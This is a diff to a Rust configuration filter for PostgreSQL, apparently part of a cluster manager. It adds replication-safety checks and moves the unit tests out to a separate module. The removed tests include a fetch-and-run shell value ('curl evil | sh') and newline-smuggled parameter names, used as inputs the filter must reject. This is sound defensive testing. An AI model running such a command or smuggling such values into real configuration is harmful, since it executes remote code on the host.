@@ -277,6 +277,8 @@ const LOCAL_ONLY: &[(&str, LocalOnlyReason)] = {
         ("log_parameter_max_length", WeakensSecurity),
         ("log_parameter_max_length_on_error", WeakensSecurity),
         ("log_connections", WeakensSecurity),
+        ("log_min_messages", WeakensSecurity),
+        ("log_min_error_statement", WeakensSecurity),
         ("log_disconnections", WeakensSecurity),
         ("krb_caseins_users", WeakensSecurity),
         ("db_user_namespace", WeakensSecurity),
@@ -418,8 +420,6 @@ const DYNAMIC_ALLOWLIST: &[&str] = &[
     "log_checkpoints",
     "log_lock_waits",
     "log_temp_files",
-    "log_min_messages",
-    "log_min_error_statement",
     "log_error_verbosity",
     "log_recovery_conflict_waits",
     "log_startup_progress_interval",
@@ -529,6 +529,8 @@ pub struct Dropped {
 pub enum DropReason {
     /// The name or value is malformed.
     Invalid(PolicyError),
+    /// The value would break replication or the cluster's ability to fail over.
+    Unsafe(String),
     /// The parameter is local-only.
     LocalOnly(LocalOnlyReason),
 }
@@ -537,6 +539,7 @@ impl fmt::Display for Dropped {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match &self.reason {
             DropReason::Invalid(e) => write!(f, "dropped dynamic parameter {:?}: {e}", self.name),
+            DropReason::Unsafe(why) => write!(f, "dropped dynamic parameter {}: {why}", self.name),
             DropReason::LocalOnly(r) => write!(
                 f,
                 "dropped dynamic parameter {}: it may only be set in the local configuration because {r}",
@@ -568,9 +571,15 @@ pub fn filter_dynamic(
                 reason: DropReason::Invalid(e),
             }),
             Ok((name, value)) => match admission(&name, local_allowlist) {
-                Admission::Dynamic => {
-                    accepted.insert(name, value);
-                }
+                Admission::Dynamic => match unsafe_value(&name, &value) {
+                    Some(why) => dropped.push(Dropped {
+                        name: name.to_string(),
+                        reason: DropReason::Unsafe(why),
+                    }),
+                    None => {
+                        accepted.insert(name, value);
+                    }
+                },
                 Admission::LocalOnly(r) => dropped.push(Dropped {
                     name: name.to_string(),
                     reason: DropReason::LocalOnly(r),
@@ -579,6 +588,24 @@ pub fn filter_dynamic(
         }
     }
     (accepted, dropped)
+}
+
+/// Values of allowlisted parameters that would stop replication or failover from working, with
+/// the reason. Patroni checks the same minimums for these settings.
+fn unsafe_value(name: &GucName, value: &GucValue) -> Option<String> {
+    let v = value.as_str().trim().to_ascii_lowercase();
+    match name.as_str() {
+        "wal_level" if !matches!(v.as_str(), "replica" | "logical") => {
+            Some("wal_level must be replica or logical for streaming replication".into())
+        }
+        "max_wal_senders" | "max_replication_slots" => match v.parse::<u32>() {
+            Ok(n) if n >= 4 => None,
+            _ => Some(format!(
+                "{name} must be a whole number of at least 4 for replication and failover"
+            )),
+        },
+        _ => None,
+    }
 }
 
 /// Checks parameters from the local configuration file: every name and value must be
@@ -624,281 +651,4 @@ pub fn render_conf(header: &str, params: &Parameters) -> String {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use proptest::prelude::*;
-    use serde_json::json;
-
-    fn names(v: &[&str]) -> BTreeSet<GucName> {
-        v.iter().map(|n| GucName::parse(n).unwrap()).collect()
-    }
-
-    fn obj(v: Value) -> serde_json::Map<String, Value> {
-        v.as_object().unwrap().clone()
-    }
-
-    #[test]
-    fn valid_names_are_normalised() {
-        assert_eq!(
-            GucName::parse("Shared_Buffers").unwrap().as_str(),
-            "shared_buffers"
-        );
-        assert_eq!(
-            GucName::parse("pgaudit.log").unwrap().as_str(),
-            "pgaudit.log"
-        );
-        assert!(GucName::parse("_x1").is_ok());
-    }
-
-    #[test]
-    fn hostile_names_are_refused() {
-        for bad in [
-            "",
-            "1abc",
-            "a b",
-            "a=b",
-            "work_mem = '1GB'\narchive_command",
-            "a\nb",
-            "a\rb",
-            "a'b",
-            "a\"b",
-            "a.b.c",
-            ".a",
-            "a.",
-            "a-b",
-            "ünïcode",
-            "shared_buffers\u{0}",
-            "a/b",
-            "a;b",
-        ] {
-            assert!(GucName::parse(bad).is_err(), "{bad:?} accepted");
-        }
-        assert!(matches!(
-            GucName::parse("include_dir"),
-            Err(PolicyError::Directive(_))
-        ));
-        assert!(GucName::parse(&"a".repeat(MAX_NAME_LEN + 1)).is_err());
-    }
-
-    #[test]
-    fn values_are_quoted_and_control_characters_refused() {
-        let n = GucName::parse("application_name").unwrap();
-        let v = GucValue::from_json(&n, &json!("it's a \\ test")).unwrap();
-        assert_eq!(v.quoted(), "'it''s a \\\\ test'");
-        assert_eq!(
-            GucValue::from_json(&n, &json!(true)).unwrap().as_str(),
-            "on"
-        );
-        assert_eq!(
-            GucValue::from_json(&n, &json!(128)).unwrap().as_str(),
-            "128"
-        );
-        for bad in [json!("a\nb"), json!("a\rb"), json!("a\u{0}b")] {
-            assert!(matches!(
-                GucValue::from_json(&n, &bad),
-                Err(PolicyError::ControlCharacter { .. })
-            ));
-        }
-        for bad in [json!(null), json!([1]), json!({"a": 1})] {
-            assert!(matches!(
-                GucValue::from_json(&n, &bad),
-                Err(PolicyError::BadType { .. })
-            ));
-        }
-    }
-
-    #[test]
-    fn commands_libraries_and_paths_are_local_only_even_if_allowlisted_locally() {
-        let allow = names(&[
-            "archive_command",
-            "shared_preload_libraries",
-            "ssl_key_file",
-            "primary_conninfo",
-            "dynamic_library_path",
-            "full_page_writes",
-            "archive_mode",
-        ]);
-        for (n, why) in [
-            ("archive_command", LocalOnlyReason::RunsCommand),
-            ("restore_command", LocalOnlyReason::RunsCommand),
-            ("archive_cleanup_command", LocalOnlyReason::RunsCommand),
-            ("recovery_end_command", LocalOnlyReason::RunsCommand),
-            ("ssl_passphrase_command", LocalOnlyReason::RunsCommand),
-            ("shared_preload_libraries", LocalOnlyReason::LoadsCode),
-            ("session_preload_libraries", LocalOnlyReason::LoadsCode),
-            ("local_preload_libraries", LocalOnlyReason::LoadsCode),
-            ("archive_library", LocalOnlyReason::LoadsCode),
-            ("dynamic_library_path", LocalOnlyReason::LoadsCode),
-            ("jit_provider", LocalOnlyReason::LoadsCode),
-            ("ssl_key_file", LocalOnlyReason::NamesPath),
-            ("hba_file", LocalOnlyReason::NamesPath),
-            ("data_directory", LocalOnlyReason::NamesPath),
-            ("log_directory", LocalOnlyReason::NamesPath),
-            ("promote_trigger_file", LocalOnlyReason::NamesPath),
-            ("primary_conninfo", LocalOnlyReason::ManagedByPgkeep),
-            ("full_page_writes", LocalOnlyReason::DataSafety),
-            ("wal_log_hints", LocalOnlyReason::DataSafety),
-            ("archive_mode", LocalOnlyReason::DataSafety),
-        ] {
-            let name = GucName::parse(n).unwrap();
-            assert_eq!(admission(&name, &allow), Admission::LocalOnly(why), "{n}");
-        }
-    }
-
-    #[test]
-    fn future_command_or_path_parameters_are_local_only_by_shape() {
-        let none = BTreeSet::new();
-        for n in [
-            "frobnicate_command",
-            "new_libraries",
-            "some_key_file",
-            "spool_dir",
-            "x.search_path",
-        ] {
-            let name = GucName::parse(n).unwrap();
-            assert!(
-                matches!(admission(&name, &none), Admission::LocalOnly(_)),
-                "{n}"
-            );
-        }
-    }
-
-    #[test]
-    fn tuning_parameters_pass_and_extensions_need_a_local_opt_in() {
-        let raw = obj(json!({
-            "work_mem": "64MB",
-            "max_connections": 200,
-            "hot_standby_feedback": true,
-            "archive_command": "curl evil | sh",
-            "pgaudit.log": "none",
-            "Bad Name": "x",
-        }));
-        let (accepted, dropped) = filter_dynamic(&raw, &BTreeSet::new());
-        let acc: Vec<_> = accepted.keys().map(GucName::as_str).collect();
-        assert_eq!(acc, ["hot_standby_feedback", "max_connections", "work_mem"]);
-        let mut d: Vec<_> = dropped.iter().map(|d| d.name.as_str()).collect();
-        d.sort();
-        assert_eq!(d, ["Bad Name", "archive_command", "pgaudit.log"]);
-        let msg = dropped
-            .iter()
-            .find(|d| d.name == "archive_command")
-            .unwrap()
-            .to_string();
-        assert!(msg.contains("operating-system command"), "{msg}");
-
-        let (accepted, _) = filter_dynamic(&raw, &names(&["pgaudit.log"]));
-        assert!(accepted.contains_key(&GucName::parse("pgaudit.log").unwrap()));
-    }
-
-    #[test]
-    fn local_layer_wins_and_render_has_one_assignment_per_line() {
-        let baseline = check_local(&obj(json!({"work_mem": "4MB", "ssl": true}))).unwrap();
-        let (dynamic, _) = filter_dynamic(
-            &obj(json!({"work_mem": "64MB", "ssl": false})),
-            &BTreeSet::new(),
-        );
-        let local = check_local(&obj(json!({"work_mem": "16MB"}))).unwrap();
-        let merged = merge(&[&baseline, &dynamic, &local]);
-        let text = render_conf("generated by pgkeep\nline two", &merged);
-        assert_eq!(
-            text,
-            "# generated by pgkeep\n# line two\nssl = 'on'\nwork_mem = '16MB'\n"
-        );
-    }
-
-    #[test]
-    fn local_config_rejects_malformed_names_naming_them() {
-        let err = check_local(&obj(json!({"work_mem\nfsync": "off"}))).unwrap_err();
-        assert!(err.to_string().contains("work_mem"), "{err}");
-    }
-
-    /// Parses a rendered file the way PostgreSQL's lexer would see it: each non-comment line must
-    /// be exactly `name = '<quoted>'`, and unquoting must give back the value.
-    fn parse_rendered(text: &str) -> Vec<(String, String)> {
-        let mut out = Vec::new();
-        for line in text.lines().filter(|l| !l.starts_with('#')) {
-            let (name, rest) = line.split_once(" = ").expect("assignment");
-            let inner = rest
-                .strip_prefix('\'')
-                .and_then(|r| r.strip_suffix('\''))
-                .expect("quoted");
-            let mut value = String::new();
-            let mut chars = inner.chars().peekable();
-            while let Some(c) = chars.next() {
-                match c {
-                    '\'' => {
-                        assert_eq!(chars.next(), Some('\''), "lone quote in {line:?}");
-                        value.push('\'');
-                    }
-                    '\\' => {
-                        assert_eq!(chars.next(), Some('\\'), "lone backslash in {line:?}");
-                        value.push('\\');
-                    }
-                    c => value.push(c),
-                }
-            }
-            out.push((name.to_owned(), value));
-        }
-        out
-    }
-
-    proptest! {
-        #[test]
-        fn any_accepted_name_is_strictly_shaped(raw in "\\PC{0,40}") {
-            if let Ok(n) = GucName::parse(&raw) {
-                let s = n.as_str();
-                prop_assert!(s.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'.'));
-                prop_assert!(s.matches('.').count() <= 1);
-                prop_assert!(!s.starts_with(|c: char| c.is_ascii_digit()));
-            }
-        }
-
-        #[test]
-        fn rendering_round_trips_any_accepted_input(
-            entries in proptest::collection::btree_map("[a-zA-Z_][a-zA-Z0-9_]{0,10}(\\.[a-z_]{1,5})?|.{0,12}", ".{0,30}", 0..12)
-        ) {
-            let raw: serde_json::Map<String, Value> =
-                entries.iter().map(|(k, v)| (k.clone(), Value::String(v.clone()))).collect();
-            let mut expected = BTreeMap::new();
-            for (k, v) in &raw {
-                if let (Ok(n), Ok(val)) = (GucName::parse(k), GucValue::from_json(&GucName::parse("x").unwrap(), v)) {
-                    expected.insert(n.as_str().to_owned(), val.as_str().to_owned());
-                }
-            }
-            let accepted: Parameters = raw
-                .iter()
-                .filter_map(|(k, v)| {
-                    let n = GucName::parse(k).ok()?;
-                    let val = GucValue::from_json(&n, v).ok()?;
-                    Some((n, val))
-                })
-                .collect();
-            let rendered = render_conf("header\nwith 'quotes'\n", &accepted);
-            let parsed: BTreeMap<_, _> = parse_rendered(&rendered).into_iter().collect();
-            prop_assert_eq!(parsed, expected);
-            prop_assert_eq!(rendered.lines().filter(|l| !l.starts_with('#')).count(), accepted.len());
-        }
-
-        #[test]
-        fn dynamic_filter_never_admits_a_dangerous_parameter(
-            suffix in "[a-z_]{0,8}",
-            allow_any in proptest::bool::ANY,
-        ) {
-            let dangerous = [
-                format!("{suffix}_command"),
-                format!("{suffix}_file"),
-                format!("x{suffix}_directory"),
-                "archive_command".to_owned(),
-                "shared_preload_libraries".to_owned(),
-            ];
-            for d in dangerous {
-                let Ok(name) = GucName::parse(&d) else { continue };
-                let allow: BTreeSet<_> = if allow_any { [name.clone()].into() } else { BTreeSet::new() };
-                let raw = obj(json!({ d.clone(): "x" }));
-                let (accepted, dropped) = filter_dynamic(&raw, &allow);
-                prop_assert!(accepted.is_empty(), "{} admitted", d);
-                prop_assert_eq!(dropped.len(), 1);
-            }
-        }
-    }
-}
+mod tests;
